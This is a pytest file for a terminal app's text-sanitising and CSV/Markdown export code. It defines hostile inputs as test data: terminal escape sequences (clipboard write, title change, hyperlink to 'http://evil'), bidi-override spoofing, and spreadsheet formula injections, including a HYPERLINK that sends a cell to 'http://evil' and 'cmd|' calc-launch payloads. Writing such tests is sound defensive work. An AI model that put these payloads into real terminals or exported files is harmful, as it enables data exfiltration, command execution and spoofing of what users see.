"""The one cleaning policy for remote text (naetra_tui.core.text): every escape family, every
control and format character, and the ordinary text around them kept."""

from __future__ import annotations

import sys
import unicodedata

import pytest

from naetra_tui.core.text import clean, clean_line

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

HOSTILE = {
    "CSI colour": f"{ESC}[31mred{ESC}[0m",
    "CSI clear screen": f"{ESC}[2J{ESC}[H",
    "8-bit CSI": "\x9b31m",
    "OSC 52 clipboard (BEL)": f"{ESC}]52;c;aGFjaw=={BEL}",
    "OSC title (ST)": f"{ESC}]0;pwned{ST}",
    "OSC 8 hyperlink": f"{ESC}]8;;http://evil{ST}click{ESC}]8;;{ST}",
    "8-bit OSC": "\x9d0;title\x9c",
    "DCS": f"{ESC}P1$qm{ST}",
    "8-bit DCS": "\x90q#0;2;0;0;0\x9c",
    "SOS": f"{ESC}Xhidden{ST}",
    "PM": f"{ESC}^privacy{ST}",
    "APC": f"{ESC}_kitty graphics{ST}",
    "8-bit APC": "\x9fapc\x9c",
    "charset switch": f"{ESC}(0",
    "terminal reset": f"{ESC}c",
    "BEL": BEL,
    "backspace overwrite": "safe\x08\x08\x08\x08evil",
    "carriage return overwrite": "shown\rhidden",
    "C1 NEL": "\x85",
    "DEL": "\x7f",
    "bidi override (reversed name)": "\u202eLPPA\u202c",
    "bidi isolates": "\u2066x\u2069\u2067y\u2069\u2068z\u2069",
    "bidi marks": "\u200e\u200f\u061c",
    "zero-width": "\u200b\u200c\u200d\u2060\ufeff",
    "tag characters": "\U000e0041\U000e007f",
    "line separator": "\u2028\u2029",
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_every_escape_family_and_invisible_character_is_removed(name: str) -> None:
    text = f"before {HOSTILE[name]} after"
    cleaned = clean(text)
    assert cleaned.startswith("before ") and cleaned.endswith(" after"), repr(cleaned)
    assert "\x1b" not in cleaned
    assert all(unicodedata.category(ch) not in ("Cc", "Cf", "Zl", "Zp") or ch in "\n\t" for ch in cleaned), (
        repr(cleaned)
    )


#: Sequences cut off by the end of the text: a terminal would wait for the rest, so all of it goes.
CUT_OFF = {"CSI": f"{ESC}[31", "OSC": f"{ESC}]0;title without end", "DCS": f"{ESC}Pq#0", "lone ESC": ESC}


@pytest.mark.parametrize("name", list(CUT_OFF))
def test_a_sequence_cut_off_at_the_end_is_removed_whole(name: str) -> None:
    assert clean(f"kept {CUT_OFF[name]}") == "kept "


def test_every_unicode_format_character_is_removed() -> None:
    """Python's own table of Cf characters, so a Unicode update cannot slip one past."""
    fmt = [chr(c) for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c)) == "Cf"]
    assert clean("".join(fmt)) == ""


def test_ordinary_text_is_kept_exactly() -> None:
    text = "Société Générale — 東京 [bold]not markup[/] 1,234.5 %\n\tnext line ✓"
    assert clean(text) == text
    assert clean_line("two\nlines\tand tab") == "two lines and tab"


def test_markup_text_stays_literal_in_the_sinks() -> None:
    """A remote name with markup and an action renders as the same characters, styled nothing."""
    from naetra_tui.ui.formatting import safe

    rendered = safe("[@click=app.quit]Quit[/] [bold]x[/bold]")
    assert rendered.plain == "[@click=app.quit]Quit[/] [bold]x[/bold]"
    assert not rendered.spans


# --- sinks: CSV cells and exported Markdown stay inert (#31) ------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil/?"&A1,"click")',
        "@SUM(A1:A9)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|'x'!A0",
        "\t=1",
        "\r=1",
    ],
)
def test_a_csv_cell_that_would_start_a_formula_is_written_as_text(
    cell: str, capsys: pytest.CaptureFixture[str]
) -> None:
    import csv
    import io

    from naetra_tui.cli.output import write_csv

    write_csv([["symbol", "source", "value"], ["AAPL", cell, -12.5], ["MSFT", "-12.5", 3]])
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[1][1].startswith("'") and rows[1][1].lstrip("'").lstrip("\t\r") != ""
    assert rows[1][2] == "-12.5" and rows[2][1] == "-12.5"  # numbers, negative ones too, untouched


def test_csv_cells_carry_no_escape_sequences(capsys: pytest.CaptureFixture[str]) -> None:
    from naetra_tui.cli.output import write_csv

    write_csv([["\x1b]52;c;ZXZpbA==\x07AAPL", "\x1b[31mred\u202e"]])
    written = capsys.readouterr().out
    assert "\x1b" not in written and "\u202e" not in written and "AAPL" in written


def test_an_exported_chat_holds_no_bytes_that_act_on_a_terminal() -> None:
    from datetime import UTC, datetime

    from naetra_tui.core.models import ChatMessage
    from naetra_tui.services.chat.export import conversation_markdown

    hostile = "price \x1b]52;c;ZXZpbA==\x07is \x1b[2J\u202e21.5\u200b and \x1b]0;title\x07done"
    messages = [
        ChatMessage(role="user", content="how is \x1b[31mAAPL?", created_at=datetime(2026, 1, 1, tzinfo=UTC)),
        ChatMessage(role="assistant", content=hostile, created_at=datetime(2026, 1, 1, tzinfo=UTC)),
    ]
    text = conversation_markdown("AAPL", messages, "general")
    assert not any(ch in text for ch in ("\x1b", "\x07", "\u202e", "\u200b"))
    assert "price" in text and "21.5" in text and "done" in text and "\n## You\n" in text
